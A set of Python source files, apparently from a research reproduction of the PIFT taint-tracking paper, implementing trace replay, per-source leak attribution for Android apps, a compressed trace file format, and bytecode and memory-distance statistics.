        return any(outcome.tainted for outcome in self.sink_outcomes)


def replay_with_provenance(
    recorded: RecordedRun, config: PIFTConfig
) -> Dict[int, frozenset]:
    """Replay with per-source labels: which sources reach each sink check?

    Returns a mapping from each sink check's position in
    ``recorded.sink_checks`` to the frozenset of source names whose taint
    reaches it (empty set = clean) — the Raksha-style multi-label view
    (see :mod:`repro.core.provenance`).
    """
    from repro.core.provenance import ProvenanceTracker

    tracker = ProvenanceTracker(config)
    sources = sorted(recorded.sources, key=lambda s: s.instruction_index)
    order = {id(check): i for i, check in enumerate(recorded.sink_checks)}
    checks = sorted(recorded.sink_checks, key=lambda c: c.instruction_index)
    outcomes: Dict[int, frozenset] = {}
    source_i = check_i = 0

    def drain(upto_index: int) -> None:
        nonlocal source_i, check_i
        while (
            source_i < len(sources)
            and sources[source_i].instruction_index <= upto_index
        ):
            source = sources[source_i]
            tracker.taint_source(source.source_name, source.address_range)
            source_i += 1
        while (
            check_i < len(checks)
            and checks[check_i].instruction_index <= upto_index
        ):
            check = checks[check_i]
            outcomes[order[id(check)]] = tracker.check(
                check.address_range, sink_name=check.sink_name
            )
            check_i += 1

    for event in recorded.trace:
        drain(event.instruction_index)
        tracker.observe(event)
    drain(recorded.instruction_count)
    return outcomes


def replay(
    recorded: RecordedRun,
    config: PIFTConfig,
    state_factory: StateFactory = RangeSet,
    record_timeline: bool = False,
    telemetry=None,
) -> ReplayResult:
    """Feed a recorded run through a fresh tracker in instruction order.

    Source registrations and sink checks interleave with the memory-event
    stream at the instruction indices they originally occurred at.
    """
    tracker = PIFTTracker(
        config,
        state_factory=state_factory,
        record_timeline=record_timeline,
        telemetry=telemetry,
    )
    result = ReplayResult(config=config, stats=tracker.stats)
    sources = sorted(recorded.sources, key=lambda s: s.instruction_index)
    checks = sorted(recorded.sink_checks, key=lambda c: c.instruction_index)
    source_i = 0
    check_i = 0

    def drain_pending(upto_index: int) -> None:
        nonlocal source_i, check_i
        while (
            source_i < len(sources)
            and sources[source_i].instruction_index <= upto_index
        ):
            tracker.taint_source(sources[source_i].address_range)
            source_i += 1
        while (
            check_i < len(checks)
            and checks[check_i].instruction_index <= upto_index
        ):
            check = checks[check_i]
            result.sink_outcomes.append(
                SinkOutcome(
                    sink_name=check.sink_name,
                    channel=check.channel,
                    instruction_index=check.instruction_index,
                    tainted=tracker.check(check.address_range),
                )
            )
            check_i += 1

    for event in recorded.trace:
        drain_pending(event.instruction_index)
        tracker.observe(event)
    drain_pending(recorded.instruction_count)
    return result

"""Offline replay: re-run a recorded execution under any PIFT configuration.

The paper's methodology (§5): app executions are traced once on the
simulator, and "the PIFT analysis code" consumes the trace together with
the source/sink address ranges.  That makes parameter sweeps cheap — the
200-point Figure 11/14/17 grids re-run the *tracker*, not the app.

Replay is the sweep hot path, so it is batched: a :class:`ReplayPlan`
(computed once per recorded run, cached on the run) pre-segments the event
stream at the instruction indices where source registrations or sink
checks interleave, and each segment is fed through
:meth:`~repro.core.tracker.PIFTTracker.observe_columns` over the trace's
cached column encoding.  Re-tracking the same run under another
``(NI, NT)`` cell reuses both the plan and the columns — record once,
replay many.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.config import PIFTConfig
from repro.core.ranges import RangeSet
from repro.core.tracker import ColourTracker, PIFTTracker, StateFactory, TrackerStats
from repro.android.device import RecordedRun


@dataclass(frozen=True)
class SinkOutcome:
    """The tracker's verdict for one recorded sink check."""

    sink_name: str
    channel: str
    instruction_index: int
    tainted: bool
    pid: int = 0
    #: Contributing source colours, in colour-registration order.  Always
    #: empty under the plain (single-bit) replay; filled by
    #: :func:`replay_coloured`.  ``tainted`` is exactly ``bool(colours)``
    #: there — the union projection.
    colours: Tuple[str, ...] = ()


@dataclass
class ReplayResult:
    """Outcome of replaying one recorded run under one configuration."""

    config: PIFTConfig
    stats: TrackerStats
    sink_outcomes: List[SinkOutcome] = field(default_factory=list)

    @property
    def alarm(self) -> bool:
        """Did any sink check come back tainted (the app-level verdict)?"""
        return any(outcome.tainted for outcome in self.sink_outcomes)


@dataclass(frozen=True)
class ReplayPlan:
    """Config-independent segmentation of a recorded run.

    ``boundaries`` holds ``(event_position, sources_due, checks_due)``
    triples: before observing the event at ``event_position``, drain that
    many pending source registrations and sink checks (both in recorded
    instruction order, sources first — exactly the order the per-event
    replay loop used).  ``final_sources`` / ``final_checks`` drain after
    the last event, bounded by the run's total instruction count.
    """

    sources: Tuple
    checks: Tuple
    boundaries: Tuple[Tuple[int, int, int], ...]
    final_sources: int
    final_checks: int


def build_replay_plan(recorded: RecordedRun) -> ReplayPlan:
    """Segment ``recorded`` once; every config replays the same plan."""
    sources = tuple(
        sorted(recorded.sources, key=lambda s: s.instruction_index)
    )
    checks = tuple(
        sorted(recorded.sink_checks, key=lambda c: c.instruction_index)
    )
    boundaries: List[Tuple[int, int, int]] = []
    source_i = check_i = 0
    for position, event in enumerate(recorded.trace):
        upto = event.instruction_index
        sources_due = checks_due = 0
        while (
            source_i < len(sources)
            and sources[source_i].instruction_index <= upto
        ):
            sources_due += 1
            source_i += 1
        while (
            check_i < len(checks)
            and checks[check_i].instruction_index <= upto
        ):
            checks_due += 1
            check_i += 1
        if sources_due or checks_due:
            boundaries.append((position, sources_due, checks_due))
    upto = recorded.instruction_count
    final_sources = final_checks = 0
    while (
        source_i < len(sources)
        and sources[source_i].instruction_index <= upto
    ):
        final_sources += 1
        source_i += 1
    while check_i < len(checks) and checks[check_i].instruction_index <= upto:
        final_checks += 1
        check_i += 1
    return ReplayPlan(
        sources=sources,
        checks=checks,
        boundaries=tuple(boundaries),
        final_sources=final_sources,
        final_checks=final_checks,
    )


def replay_plan_for(recorded: RecordedRun) -> ReplayPlan:
    """The run's cached plan, rebuilt if the run grew since last use."""
    cached = getattr(recorded, "_replay_plan", None)
    key = (
        len(recorded.sources),
        len(recorded.sink_checks),
        len(recorded.trace),
    )
    if cached is None or cached[0] != key:
        recorded._replay_plan = (key, build_replay_plan(recorded))
        cached = recorded._replay_plan
    return cached[1]


def replay_with_provenance(
    recorded: RecordedRun, config: PIFTConfig
) -> Dict[int, frozenset]:
    """Replay with per-source labels: which sources reach each sink check?

    Returns a mapping from each sink check's position in
    ``recorded.sink_checks`` to the frozenset of source names whose taint
    reaches it (empty set = clean) — the Raksha-style multi-label view
    (see :mod:`repro.core.provenance`).
    """
    from repro.core.provenance import ProvenanceTracker

    tracker = ProvenanceTracker(config)
    sources = sorted(recorded.sources, key=lambda s: s.instruction_index)
    order = {id(check): i for i, check in enumerate(recorded.sink_checks)}
    checks = sorted(recorded.sink_checks, key=lambda c: c.instruction_index)
    outcomes: Dict[int, frozenset] = {}
    source_i = check_i = 0

    def drain(upto_index: int) -> None:
        nonlocal source_i, check_i
        while (
            source_i < len(sources)
            and sources[source_i].instruction_index <= upto_index
        ):
            source = sources[source_i]
            tracker.taint_source(
                source.source_name, source.address_range, pid=source.pid
            )
            source_i += 1
        while (
            check_i < len(checks)
            and checks[check_i].instruction_index <= upto_index
        ):
            check = checks[check_i]
            outcomes[order[id(check)]] = tracker.check(
                check.address_range, pid=check.pid, sink_name=check.sink_name
            )
            check_i += 1

    for event in recorded.trace:
        drain(event.instruction_index)
        tracker.observe(event)
    drain(recorded.instruction_count)
    return outcomes


def replay(
    recorded: RecordedRun,
    config: PIFTConfig,
    state_factory: StateFactory = RangeSet,
    record_timeline: bool = False,
    telemetry=None,
) -> ReplayResult:
    """Feed a recorded run through a fresh tracker in instruction order.

    Source registrations and sink checks interleave with the memory-event
    stream at the instruction indices (and PIDs) they originally occurred
    at; the event segments between them run through the batched column
    path.
    """
    tracker = PIFTTracker(
        config,
        state_factory=state_factory,
        record_timeline=record_timeline,
        telemetry=telemetry,
    )
    result = ReplayResult(config=config, stats=tracker.stats)
    plan = replay_plan_for(recorded)
    sources = plan.sources
    checks = plan.checks
    taint_source = tracker.taint_source
    check_taint = tracker.check
    outcomes = result.sink_outcomes
    source_i = check_i = 0

    def drain(sources_due: int, checks_due: int) -> None:
        nonlocal source_i, check_i
        for source in sources[source_i:source_i + sources_due]:
            taint_source(source.address_range, pid=source.pid)
        source_i += sources_due
        for check in checks[check_i:check_i + checks_due]:
            outcomes.append(
                SinkOutcome(
                    sink_name=check.sink_name,
                    channel=check.channel,
                    instruction_index=check.instruction_index,
                    tainted=check_taint(check.address_range, pid=check.pid),
                    pid=check.pid,
                )
            )
        check_i += checks_due

    columns = recorded.trace.columns()
    position = 0
    for boundary, sources_due, checks_due in plan.boundaries:
        if boundary > position:
            tracker.observe_columns(columns, position, boundary)
            position = boundary
        drain(sources_due, checks_due)
    tracker.observe_columns(columns, position, len(columns))
    drain(plan.final_sources, plan.final_checks)
    return result


def source_colour(source) -> str:
    """The provenance colour of a source registration: its explicit
    ``colour`` when set, else its source name — so DroidBench apps get
    per-source attribution (imei vs location vs phone_number) with no
    recording changes."""
    return source.colour if source.colour is not None else source.source_name


def replay_coloured(
    recorded: RecordedRun,
    config: PIFTConfig,
    record_timeline: bool = False,
) -> ReplayResult:
    """:func:`replay` over the coloured tracker: same plan, same batched
    column path, but every sink outcome additionally names the
    contributing source colours.

    The union projection is exact: each outcome's ``tainted`` equals the
    plain replay's verdict bit for bit (enforced by the parity suite), so
    this is an *attribution* pass, never a second opinion on verdicts.
    Colour bits are pre-registered in recorded instruction order, making
    mask assignment — and therefore attribution tuples — deterministic.
    """
    tracker = ColourTracker(config, record_timeline=record_timeline)
    result = ReplayResult(config=config, stats=tracker.stats)
    plan = replay_plan_for(recorded)
    sources = plan.sources
    checks = plan.checks
    for source in sources:
        tracker.colours.register(source_colour(source))
    taint_source = tracker.taint_source
    check_mask = tracker.check_mask
    names_for = tracker.colours.names_for
    outcomes = result.sink_outcomes
    source_i = check_i = 0

    def drain(sources_due: int, checks_due: int) -> None:
        nonlocal source_i, check_i
        for source in sources[source_i:source_i + sources_due]:
            taint_source(
                source.address_range,
                pid=source.pid,
                colour=source_colour(source),
            )
        source_i += sources_due
        for check in checks[check_i:check_i + checks_due]:
            mask = check_mask(check.address_range, pid=check.pid)
            outcomes.append(
                SinkOutcome(
                    sink_name=check.sink_name,
                    channel=check.channel,
                    instruction_index=check.instruction_index,
                    tainted=bool(mask),
                    pid=check.pid,
                    colours=names_for(mask),
                )
            )
        check_i += checks_due

    columns = recorded.trace.columns()
    position = 0
    for boundary, sources_due, checks_due in plan.boundaries:
        if boundary > position:
            tracker.observe_columns(columns, position, boundary)
            position = boundary
        drain(sources_due, checks_due)
    tracker.observe_columns(columns, position, len(columns))
    drain(plan.final_sources, plan.final_checks)
    return result

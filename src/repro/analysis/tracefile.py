"""Trace persistence — store recorded runs the way the paper stores gem5
traces, so expensive executions can be analysed repeatedly offline.

Format: one gzip-compressed JSON document.  Memory events are delta- and
column-encoded (kinds as a bit string, indices as deltas, ranges as
``start``/``size`` pairs), which keeps a ~10^5-event trace at a few
hundred kilobytes while staying debuggable with standard tools
(``zcat trace.pift.gz | python -m json.tool``).
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import List, Union

from repro.core.events import AccessKind, EventTrace, MemoryAccess
from repro.core.ranges import AddressRange
from repro.android.device import RecordedRun, SinkCheck, SourceRegistration

FORMAT_NAME = "pift-trace"
FORMAT_VERSION = 3

#: Older versions this reader still accepts.  Version 2 lacks ``pid``
#: fields on sources/sink checks (implicitly PID 0).
COMPATIBLE_VERSIONS = (2, FORMAT_VERSION)


class TraceFormatError(ValueError):
    """The file is not a readable pift-trace document."""


def _encode_events(trace: EventTrace) -> dict:
    kinds: List[str] = []
    index_deltas: List[int] = []
    starts: List[int] = []
    sizes: List[int] = []
    pids: List[int] = []
    previous_index = 0
    for event in trace:
        kinds.append("l" if event.is_load else "s")
        index_deltas.append(event.instruction_index - previous_index)
        previous_index = event.instruction_index
        starts.append(event.address_range.start)
        sizes.append(event.address_range.size)
        pids.append(event.pid)
    payload = {
        "kinds": "".join(kinds),
        "index_deltas": index_deltas,
        "starts": starts,
        "sizes": sizes,
        "instruction_count": trace.instruction_count,
    }
    if any(pids):
        payload["pids"] = pids
    return payload


def _decode_events(payload: dict) -> EventTrace:
    kinds = payload["kinds"]
    pids = payload.get("pids") or [0] * len(kinds)
    events: List[MemoryAccess] = []
    index = 0
    for kind, delta, start, size, pid in zip(
        kinds, payload["index_deltas"], payload["starts"],
        payload["sizes"], pids,
    ):
        index += delta
        events.append(
            MemoryAccess(
                AccessKind.LOAD if kind == "l" else AccessKind.STORE,
                AddressRange.from_base_size(start, size),
                index,
                pid,
            )
        )
    return EventTrace(events, instruction_count=payload["instruction_count"])


def encode_recorded_run(recorded: RecordedRun) -> dict:
    """The JSON-ready body of one recorded run (no format envelope).

    Shared by the single-run tracefile format below and the
    :mod:`repro.store` suite artifacts, so both persist runs with the
    same (versioned) encoding.
    """
    return {
        "events": _encode_events(recorded.trace),
        "sources": [
            {
                "start": source.address_range.start,
                "size": source.address_range.size,
                "index": source.instruction_index,
                "name": source.source_name,
                "pid": source.pid,
                # The explicit colour is an *optional* key: omitted when
                # unset, so documents written before (or without) colour
                # labels stay byte-identical — no version bump needed.
                **(
                    {"colour": source.colour}
                    if source.colour is not None
                    else {}
                ),
            }
            for source in recorded.sources
        ],
        "sink_checks": [
            {
                "start": check.address_range.start,
                "size": check.address_range.size,
                "index": check.instruction_index,
                "name": check.sink_name,
                "channel": check.channel,
                "pid": check.pid,
            }
            for check in recorded.sink_checks
        ],
    }


def decode_recorded_run(body: dict) -> RecordedRun:
    """Rebuild a :class:`RecordedRun` from :func:`encode_recorded_run`."""
    recorded = RecordedRun(trace=_decode_events(body["events"]))
    for source in body["sources"]:
        recorded.sources.append(
            SourceRegistration(
                AddressRange.from_base_size(source["start"], source["size"]),
                source["index"],
                source["name"],
                pid=source.get("pid", 0),
                colour=source.get("colour"),
            )
        )
    for check in body["sink_checks"]:
        recorded.sink_checks.append(
            SinkCheck(
                AddressRange.from_base_size(check["start"], check["size"]),
                check["index"],
                check["name"],
                check["channel"],
                pid=check.get("pid", 0),
            )
        )
    return recorded


def save_recorded_run(recorded: RecordedRun, path: Union[str, Path]) -> Path:
    """Serialise a recorded run to ``path`` (gzip JSON).  Returns the path."""
    document = {
        "format": FORMAT_NAME,
        "version": FORMAT_VERSION,
        **encode_recorded_run(recorded),
    }
    path = Path(path)
    with gzip.open(path, "wt", encoding="utf-8") as handle:
        json.dump(document, handle, separators=(",", ":"))
    return path


def load_recorded_run(path: Union[str, Path]) -> RecordedRun:
    """Load a recorded run previously written by :func:`save_recorded_run`."""
    try:
        with gzip.open(Path(path), "rt", encoding="utf-8") as handle:
            document = json.load(handle)
    except (OSError, json.JSONDecodeError) as error:
        raise TraceFormatError(f"cannot read {path}: {error}") from error
    if document.get("format") != FORMAT_NAME:
        raise TraceFormatError(f"{path} is not a {FORMAT_NAME} file")
    if document.get("version") not in COMPATIBLE_VERSIONS:
        raise TraceFormatError(
            f"{path} has version {document.get('version')}, "
            f"expected one of {COMPATIBLE_VERSIONS}"
        )
    return decode_recorded_run(document)

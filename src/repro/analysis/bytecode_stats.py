"""Static bytecode statistics: Table 1 and Figure 10.

Table 1 measures, per Dalvik bytecode, the longest distance between the
loads of actual data and the store instruction in the bytecode's mterp
translation.  Here that measurement runs against the translator's actual
routines, and the table groups bytecodes into the paper's buckets
(1, 2, 3, 4, 5, 6, 9-12, Unknown).

Figure 10 counts opcode frequencies over app/library dex corpora; the
counting and top-N table rendering live here, the corpora themselves in
:mod:`repro.apps.corpus`.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from repro.dalvik.bytecode import Category, Instr, OPCODES, OpcodeInfo, opcode
from repro.dalvik.translator import MterpTranslator, Routine

_AGET_WIDTHS = {
    "aget": 4,
    "aget-object": 4,
    "aget-boolean": 1,
    "aget-byte": 1,
    "aget-char": 2,
    "aget-short": 2,
}
_APUT_WIDTHS = {
    "aput": 4,
    "aput-boolean": 1,
    "aput-byte": 1,
    "aput-char": 2,
    "aput-short": 2,
}


def routine_for(info: OpcodeInfo, translator: Optional[MterpTranslator] = None) -> Optional[Routine]:
    """Translate a representative instance of ``info`` (None for non-movers).

    Oracle values are dummies — the routine *shape* (and therefore the
    load-store distance) does not depend on them.
    """
    translator = translator or MterpTranslator()
    instr = Instr(info, a=1, b=2, c=3, literal=4)
    category = info.category
    if category is Category.MOVE:
        return translator.move(instr)
    if category is Category.MOVE_WIDE:
        return translator.move_wide(instr)
    if category is Category.MOVE_RESULT:
        return translator.move_result(instr)
    if category is Category.MOVE_RESULT_WIDE:
        return translator.move_result(instr, wide=True)
    if category is Category.MOVE_EXCEPTION:
        return translator.move_exception(instr)
    if category is Category.RETURN:
        return translator.return_value(instr)
    if category is Category.RETURN_WIDE:
        return translator.return_value(instr, wide=True)
    if category is Category.ARRAY_LENGTH:
        return translator.array_length(instr)
    if category is Category.CMP:
        if info.name == "cmp-long":
            return translator.cmp_long(instr, 0)
        assert info.helper is not None
        return translator.cmp_float(instr, 0, info.helper, wide="double" in info.name)
    if category is Category.AGET:
        return translator.aget(instr, width=_AGET_WIDTHS[info.name])
    if category is Category.AGET_WIDE:
        return translator.aget(instr, width=8, wide=True)
    if category is Category.APUT:
        return translator.aput(instr, width=_APUT_WIDTHS[info.name])
    if category is Category.APUT_WIDE:
        return translator.aput(instr, width=8, wide=True)
    if category is Category.APUT_OBJECT:
        return translator.aput_object(instr)
    if category is Category.IGET:
        return translator.iget(instr)
    if category is Category.IGET_WIDE:
        return translator.iget(instr, wide=True)
    if category is Category.IPUT:
        return translator.iput(instr)
    if category is Category.IPUT_WIDE:
        return translator.iput(instr, wide=True)
    if category is Category.SGET:
        return translator.sget(instr)
    if category is Category.SGET_WIDE:
        return translator.sget(instr, wide=True)
    if category is Category.SPUT:
        return translator.sput(instr)
    if category is Category.SPUT_WIDE:
        return translator.sput(instr, wide=True)
    if category is Category.UNARY_INT:
        return translator.unary_int(instr)
    if category is Category.UNARY_WIDE:
        return translator.unary_wide(instr)
    if category is Category.UNARY_FLOAT:
        return translator.unary_float(instr, 0)
    if category is Category.CONVERT:
        if info.helper:
            src_wide = info.name.startswith(("long-", "double-"))
            dst_wide = info.name.endswith(("long", "double"))
            return translator.convert_helper(instr, (0, 0), src_wide, dst_wide)
        return translator.convert(instr)
    if category is Category.BINOP_INT:
        return translator.binop_int(instr, 0)
    if category is Category.BINOP_2ADDR_INT:
        return translator.binop_2addr_int(instr, 0)
    if category is Category.BINOP_LIT:
        return translator.binop_lit(instr, 0)
    if category in (Category.BINOP_WIDE, Category.BINOP_2ADDR_WIDE):
        return translator.binop_wide(instr, (0, 0))
    if category in (Category.BINOP_FLOAT, Category.BINOP_2ADDR_FLOAT):
        return translator.binop_float(instr, (0, 0), wide="double" in info.name)
    return None


def measured_distance(info: OpcodeInfo) -> Optional[int]:
    """The routine's actual data-load -> data-store distance, or None."""
    routine = routine_for(info)
    if routine is None:
        return None
    if info.load_store_distance is None:
        # Helper-backed: the distance exists but is long ("unknown").
        return None
    return routine.load_store_distance


@dataclass
class Table1Row:
    """One bucket of the paper's Table 1."""

    label: str
    count: int
    examples: List[str]


#: The paper's bucket labels in presentation order.
TABLE1_BUCKETS: Sequence[Tuple[str, Sequence[int]]] = (
    ("1", (1,)),
    ("2", (2,)),
    ("3", (3,)),
    ("4", (4,)),
    ("5", (5,)),
    ("6", (6,)),
    ("9-12", (9, 10, 11, 12)),
)


def load_store_distance_table(max_examples: int = 4) -> List[Table1Row]:
    """Regenerate Table 1: distance buckets with counts and examples."""
    rows: List[Table1Row] = []
    movers = [info for info in OPCODES if info.moves_data]
    for label, bucket in TABLE1_BUCKETS:
        members = [
            info.name for info in movers if info.load_store_distance in bucket
        ]
        rows.append(Table1Row(label, len(members), members[:max_examples]))
    unknown = [info.name for info in movers if info.load_store_distance is None]
    rows.append(Table1Row("Unknown", len(unknown), unknown[:max_examples]))
    return rows


def render_table1(rows: Sequence[Table1Row]) -> str:
    lines = [f"{'Load-Store Distance':>20} {'Cnt':>4}  Example Bytecodes"]
    for row in rows:
        lines.append(
            f"{row.label:>20} {row.count:>4}  {', '.join(row.examples)}"
        )
    return "\n".join(lines)


@dataclass
class OpcodeFrequency:
    """One row of Figure 10: opcode, share of lines, distance (if mover)."""

    name: str
    share: float
    load_store_distance: Optional[int]
    moves_data: bool


def top_opcodes(counts: Counter, n: int = 30) -> List[OpcodeFrequency]:
    """The Figure 10 table from a corpus opcode-count Counter."""
    total = sum(counts.values())
    rows: List[OpcodeFrequency] = []
    for name, count in counts.most_common(n):
        info = opcode(name)
        rows.append(
            OpcodeFrequency(
                name=name,
                share=count / total if total else 0.0,
                load_store_distance=info.load_store_distance,
                moves_data=info.moves_data,
            )
        )
    return rows


def render_top_opcodes(rows: Sequence[OpcodeFrequency], title: str) -> str:
    lines = [title, f"{'Dalvik Bytecode':<24} {'%':>7}  L-S Distance"]
    for row in rows:
        distance = (
            str(row.load_store_distance)
            if row.load_store_distance is not None
            else ("unknown" if row.moves_data else "")
        )
        lines.append(f"{row.name:<24} {row.share * 100:6.2f}%  {distance}")
    return "\n".join(lines)

"""Suite-level leak attribution: which *source* fed each sink hit?

The paper's evaluation (§5.2) reports that PIFT catches leaks of "phone
number, location, and device ID" — but the single-bit tracker can only
say *that* a sink saw tainted bytes, not *whose* bytes.  This module runs
the coloured replay (:func:`repro.analysis.replay.replay_coloured`) over
a suite and folds the per-sink colour tuples into the table the paper
implies: for every source colour, which apps leaked it and through which
channels.

Attribution is a second pass over already-recorded runs, never a second
opinion: each coloured sink verdict's union projection is byte-identical
to the plain replay (the colour-parity suite enforces this), so the
confusion matrix printed next to this table is untouched by it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Sequence, Tuple

from repro.core.config import PIFTConfig
from repro.analysis.accuracy import AppRun
from repro.analysis.replay import replay_coloured


@dataclass(frozen=True)
class SinkAttribution:
    """One tainted sink check with its contributing source colours."""

    sink_name: str
    channel: str
    instruction_index: int
    colours: Tuple[str, ...]
    pid: int = 0


@dataclass
class AppAttribution:
    """Per-app attribution: every tainted sink, coloured."""

    app: str
    category: str = ""
    leaks: bool = False  # ground truth, copied from the AppRun
    sink_hits: List[SinkAttribution] = field(default_factory=list)

    @property
    def alarm(self) -> bool:
        return bool(self.sink_hits)

    @property
    def colours(self) -> Tuple[str, ...]:
        """All colours reaching any of this app's sinks, first-seen order."""
        seen: Dict[str, None] = {}
        for hit in self.sink_hits:
            for colour in hit.colours:
                seen.setdefault(colour)
        return tuple(seen)

    def as_dict(self) -> dict:
        return {
            "app": self.app,
            "category": self.category,
            "leaks": self.leaks,
            "alarm": self.alarm,
            "colours": list(self.colours),
            "sink_hits": [
                {
                    "sink": hit.sink_name,
                    "channel": hit.channel,
                    "index": hit.instruction_index,
                    "pid": hit.pid,
                    "colours": list(hit.colours),
                }
                for hit in self.sink_hits
            ],
        }


@dataclass
class ColourRow:
    """One row of the leak table: a source colour's reach."""

    colour: str
    apps: List[str] = field(default_factory=list)
    sink_hits: int = 0
    channels: Dict[str, int] = field(default_factory=dict)

    def as_dict(self) -> dict:
        return {
            "colour": self.colour,
            "apps": list(self.apps),
            "app_count": len(self.apps),
            "sink_hits": self.sink_hits,
            "channels": dict(sorted(self.channels.items())),
        }


@dataclass
class SuiteAttribution:
    """Coloured replay of a whole suite plus the folded leak table."""

    config: PIFTConfig
    apps: List[AppAttribution] = field(default_factory=list)

    @property
    def table(self) -> List[ColourRow]:
        """Colour rows in first-attribution order across the suite."""
        rows: Dict[str, ColourRow] = {}
        for app in self.apps:
            for hit in app.sink_hits:
                for colour in hit.colours:
                    row = rows.setdefault(colour, ColourRow(colour))
                    if app.app not in row.apps:
                        row.apps.append(app.app)
                    row.sink_hits += 1
                    row.channels[hit.channel] = (
                        row.channels.get(hit.channel, 0) + 1
                    )
        return list(rows.values())

    @property
    def attributed_sink_hits(self) -> int:
        return sum(len(app.sink_hits) for app in self.apps)

    def as_dict(self) -> dict:
        """JSON-ready form (``repro report``/``repro suite --colours``)."""
        return {
            "window_size": self.config.window_size,
            "max_propagations": self.config.max_propagations,
            "attributed_sink_hits": self.attributed_sink_hits,
            "colours": [row.as_dict() for row in self.table],
            "apps": [app.as_dict() for app in self.apps if app.sink_hits],
        }

    def render(self) -> str:
        """The per-source leak-attribution table, ASCII."""
        rows = self.table
        if not rows:
            return "no attributed sink hits"
        width = max(len("colour"), max(len(row.colour) for row in rows))
        lines = [
            f"{'colour':<{width}}  apps  sink hits  channels",
            f"{'-' * width}  ----  ---------  --------",
        ]
        for row in rows:
            channels = ", ".join(
                f"{name}:{count}"
                for name, count in sorted(row.channels.items())
            )
            lines.append(
                f"{row.colour:<{width}}  {len(row.apps):4d}  "
                f"{row.sink_hits:9d}  {channels}"
            )
        return "\n".join(lines)


def attribute_app(app: AppRun, config: PIFTConfig) -> AppAttribution:
    """Coloured replay of one app; keeps only the tainted sink checks."""
    result = replay_coloured(app.recorded, config)
    attribution = AppAttribution(
        app=app.name, category=app.category, leaks=app.leaks
    )
    for outcome in result.sink_outcomes:
        if outcome.tainted:
            attribution.sink_hits.append(
                SinkAttribution(
                    sink_name=outcome.sink_name,
                    channel=outcome.channel,
                    instruction_index=outcome.instruction_index,
                    colours=outcome.colours,
                    pid=outcome.pid,
                )
            )
    return attribution


def attribute_suite(
    apps: Sequence[AppRun], config: PIFTConfig
) -> SuiteAttribution:
    """Attribute every sink hit in a suite to its source colours."""
    suite = SuiteAttribution(config=config)
    for app in apps:
        suite.apps.append(attribute_app(app, config))
    return suite

"""Memory-operation distance statistics — the paper's Figures 2, 12, 13.

All distances are measured in *instructions* (the paper's Figure 2
caption: "distance = number of instructions"), over the memory-event
stream of one execution trace.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

import numpy as np

from repro.core.events import EventTrace


@dataclass
class Distribution:
    """A discrete probability distribution plus its CDF, as in Figure 2."""

    values: np.ndarray  # the support (bin values)
    probability: np.ndarray
    cdf: np.ndarray
    sample_count: int

    @classmethod
    def from_samples(
        cls, samples: Sequence[int], max_value: Optional[int] = None
    ) -> "Distribution":
        if not len(samples):
            return cls(np.array([]), np.array([]), np.array([]), 0)
        array = np.asarray(samples)
        top = int(array.max()) if max_value is None else max_value
        clipped = np.clip(array, 0, top)
        counts = np.bincount(clipped, minlength=top + 1)
        probability = counts / counts.sum()
        return cls(
            values=np.arange(top + 1),
            probability=probability,
            cdf=np.cumsum(probability),
            sample_count=len(samples),
        )

    def probability_at_most(self, value: int) -> float:
        """P(X <= value) — e.g. the paper's "0-10 captures 99%" claim."""
        if not self.sample_count:
            return 0.0
        index = min(value, len(self.cdf) - 1)
        return float(self.cdf[index])

    def mode(self) -> int:
        return int(self.values[int(np.argmax(self.probability))])


def store_to_last_load_distances(trace: EventTrace) -> List[int]:
    """Figure 2a: for every store, the distance back to the last load."""
    distances: List[int] = []
    last_load_index: Optional[int] = None
    for event in trace:
        if event.is_load:
            last_load_index = event.instruction_index
        elif last_load_index is not None:
            distances.append(event.instruction_index - last_load_index)
    return distances


def stores_between_loads(trace: EventTrace) -> List[int]:
    """Figure 2b: number of stores between each pair of consecutive loads."""
    counts: List[int] = []
    pending: Optional[int] = None
    for event in trace:
        if event.is_load:
            if pending is not None:
                counts.append(pending)
            pending = 0
        elif pending is not None:
            pending += 1
    if pending is not None:
        counts.append(pending)
    return counts


def load_to_load_distances(trace: EventTrace) -> List[int]:
    """Figure 2c: distance between consecutive loads."""
    distances: List[int] = []
    previous: Optional[int] = None
    for event in trace:
        if event.is_load:
            if previous is not None:
                distances.append(event.instruction_index - previous)
            previous = event.instruction_index
    return distances


def stores_in_window(trace: EventTrace, window_size: int) -> List[int]:
    """Figure 12: for every load, the number of stores within NI instructions."""
    loads = [e.instruction_index for e in trace if e.is_load]
    stores = [e.instruction_index for e in trace if e.is_store]
    store_array = np.asarray(stores)
    counts: List[int] = []
    for load_index in loads:
        low = np.searchsorted(store_array, load_index, side="left")
        high = np.searchsorted(store_array, load_index + window_size, side="right")
        counts.append(int(high - low))
    return counts


def kth_store_distances(
    trace: EventTrace, window_size: int, k_max: int = 3
) -> List[List[int]]:
    """Figure 13: distances from each load to its 1st..k-th store in-window.

    Returns ``k_max`` lists; list ``k`` holds, for every load that has at
    least ``k+1`` stores inside its window, the distance to that store.
    """
    stores = [e.instruction_index for e in trace if e.is_store]
    store_array = np.asarray(stores)
    results: List[List[int]] = [[] for _ in range(k_max)]
    for event in trace:
        if not event.is_load:
            continue
        load_index = event.instruction_index
        low = np.searchsorted(store_array, load_index, side="left")
        high = np.searchsorted(store_array, load_index + window_size, side="right")
        in_window = store_array[low:high]
        for k in range(min(k_max, len(in_window))):
            results[k].append(int(in_window[k] - load_index))
    return results


def mean_kth_store_distances(
    trace: EventTrace, window_sizes: Sequence[int], k_max: int = 3
) -> Dict[int, List[float]]:
    """Figure 13's series: mean distance to the k-th store per window size."""
    output: Dict[int, List[float]] = {}
    for window_size in window_sizes:
        per_k = kth_store_distances(trace, window_size, k_max)
        output[window_size] = [
            float(np.mean(d)) if d else float("nan") for d in per_k
        ]
    return output

"""Trace analysis: replay, distance statistics, accuracy sweeps, overheads."""

from repro.analysis.accuracy import (
    AccuracyGrid,
    AccuracyReport,
    AppRun,
    evaluate_app,
    evaluate_suite,
    sweep,
)
from repro.analysis.bytecode_stats import (
    OpcodeFrequency,
    Table1Row,
    load_store_distance_table,
    measured_distance,
    render_table1,
    render_top_opcodes,
    routine_for,
    top_opcodes,
)
from repro.analysis.distances import (
    Distribution,
    kth_store_distances,
    load_to_load_distances,
